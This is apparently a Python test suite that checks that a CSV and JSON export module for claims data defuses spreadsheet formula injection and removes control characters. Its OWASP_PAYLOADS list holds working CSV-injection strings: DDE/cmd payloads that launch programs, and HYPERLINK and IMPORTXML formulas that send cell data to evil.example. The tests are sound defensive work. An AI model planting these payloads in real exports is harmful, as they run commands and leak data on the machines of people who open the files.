"""csv_bytes gives the csv module's bytes of the safe cells, whether or not it takes
its fast path; no cell a spreadsheet would run, no control character, ever."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from claims.csvtext import csv_bytes, csv_lines, dict_csv_bytes, json_bytes, safe_cell


def reference(columns: list[str], rows: list[list[object]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(value) for value in columns])
    writer.writerows([[safe_cell(value) for value in row] for row in rows])
    return buffer.getvalue().encode("utf-8")


VALUES = st.one_of(st.text(alphabet='ab1,"\r\n -;@=+\t\x00\x1b\x7f\x85.', max_size=5), st.none(),
                   st.integers(-5, 5), st.sampled_from([-1e-05, 0.5, -2.0]))


@given(st.integers(1, 4).flatmap(lambda width: st.tuples(
    st.lists(st.text(alphabet="abc,", min_size=1, max_size=3), min_size=width, max_size=width),
    st.lists(st.lists(VALUES, min_size=width, max_size=width), max_size=6))))
def test_the_same_bytes_as_the_csv_module(table: tuple[list[str], list[list[object]]]) -> None:
    columns, rows = table
    assert csv_bytes(columns, rows) == reference(columns, rows)
    assert csv_bytes(columns, iter(rows)) == reference(columns, rows)


def test_plain_text_rows_and_rows_that_need_quoting() -> None:
    columns = ["claim_id", "reason_codes"]
    plain = [["C1", "COST_OVER_CAP;FILED_LATE"], ["C2", ""]]
    assert csv_bytes(columns, plain) == b"claim_id,reason_codes\nC1,COST_OVER_CAP;FILED_LATE\nC2,\n"
    quoted = [["C1", 'say "no", twice']]
    assert csv_bytes(columns, quoted) == b'claim_id,reason_codes\nC1,"say ""no"", twice"\n'
    for ragged in ([["C1", "a", "b"]], [["a,b"], ["c", "d"]]):  # rows of other lengths: written as given
        assert csv_bytes(columns, ragged) == reference(columns, ragged)  # type: ignore[arg-type]


@given(st.lists(st.text(alphabet="ab", min_size=1, max_size=2), min_size=1, max_size=3),
       st.lists(st.lists(VALUES, max_size=4), max_size=5))
def test_rows_of_any_length_the_same_bytes(columns: list[str], rows: list[list[object]]) -> None:
    assert csv_bytes(columns, rows) == reference(columns, rows)


@given(st.lists(st.lists(VALUES, max_size=4), max_size=6))
def test_each_line_as_the_csv_module_writes_its_row(rows: list[list[object]]) -> None:
    assert csv_lines(rows) == [reference_line(row) for row in rows]


def reference_line(row: list[object]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([safe_cell(value) for value in row])
    return buffer.getvalue()[:-1]


def test_lines_of_plain_rows_and_of_rows_that_need_quoting_among_them() -> None:
    rows = [["C1", "a;b"], ["C2", 'say "no"'], ["C3", ""], [""], ["C4", None, 7]]
    assert csv_lines(rows) == ["C1,a;b", 'C2,"say ""no"""', "C3,", '""', "C4,,7"]


#: The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection),
#: with the variants that start with a tab, a carriage return or hide after a ";".
OWASP_PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click for further information\")",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=IMPORTXML(CONCAT(\"http://evil.example/\", CONCATENATE(A2:E2)), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "-1+1",
    "+1+1",
    "@A1",
    "name;=1+1",
    "name;+cmd|' /C calc'!A0",
]


def cells_a_spreadsheet_would_run(data: bytes) -> list[str]:
    """Every cell (and every part after a ';', as a ';'-separated locale splits it)
    that starts a formula, read back with the csv module."""
    running = []
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        for cell in row:
            for part in cell.split(";"):
                if part[:1] in ("=", "+", "-", "@", "\t", "\r") and not part.lstrip("-").replace(".", "").isdigit():
                    running.append(part)
    return running


def control_characters(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    return [c for c in text.replace("\n", "") if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F]


def test_no_owasp_payload_runs_and_each_keeps_its_text_after_the_quote() -> None:
    columns = ["claim_id", "payee_name", "amount_fen"]
    rows = [[payload, payload, 100] for payload in OWASP_PAYLOADS]
    for data in (csv_bytes(columns, rows), csv_bytes(columns, [[str(v) for v in row] for row in rows]),
                 dict_csv_bytes(columns, [dict(zip(columns, row, strict=True)) for row in rows])):
        assert cells_a_spreadsheet_would_run(data) == []
        assert control_characters(data) == []
        read = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))[1:]
        for payload, (claim_id, name, amount) in zip(OWASP_PAYLOADS, read, strict=True):
            assert claim_id == name and amount == "100"
            visible = payload.replace("\r", "\ufffd").replace("\n", "\ufffd").replace("\t", "\ufffd")
            assert name.replace("'", "") == visible.replace("'", ""), payload  # only quotes were added


def test_numbers_and_ordinary_text_are_left_as_they_are() -> None:
    assert safe_cell(-5) == -5 and safe_cell(0.5) == 0.5 and safe_cell(None) is None
    for text in ("-5", "-12.50", "12", "张三", "COST_OVER_CAP;FILED_LATE", "2025-09-12T10:00:00+08:00", "a-b", ""):
        assert safe_cell(text) == text
    assert safe_cell("-") == "'-" and safe_cell("-1e5") == "'-1e5" and safe_cell("=") == "'="
    assert csv_bytes(["a", "b"], [["-5", -7]]) == b"a,b\n-5,-7\n"


def test_control_characters_are_replaced_wherever_they_are() -> None:
    name = "Zhang\x00San\x1b[31m\x7f\x85\u2028end\n"
    assert safe_cell(name) == "Zhang\ufffdSan\ufffd[31m\ufffd\ufffd\u2028end\ufffd"
    data = csv_bytes(["file", "message"], [["a\x00.csv", "line 1\r\nline 2"], ["b.csv", "tab\there"]])
    assert b"\x00" not in data and control_characters(data) == [] and data.count(b"\n") == 3


@given(st.lists(st.lists(st.text(max_size=6), min_size=1, max_size=4), max_size=6))
def test_any_text_at_all_is_written_safe(rows: list[list[str]]) -> None:
    data = csv_bytes(["a"], rows)
    assert cells_a_spreadsheet_would_run(data) == [] and control_characters(data) == []
    assert csv_lines(rows) == [reference_line(row) for row in rows]  # (the fast path agrees)


def test_json_outputs_escape_every_control_character() -> None:
    value = {"file": "a\x00b\x1b\x7f\x85\u2028张三.csv", "rows": [1, -2]}
    data = json_bytes(value)
    assert json.loads(data) == value
    assert control_characters(data) == [] and "张三".encode() in data
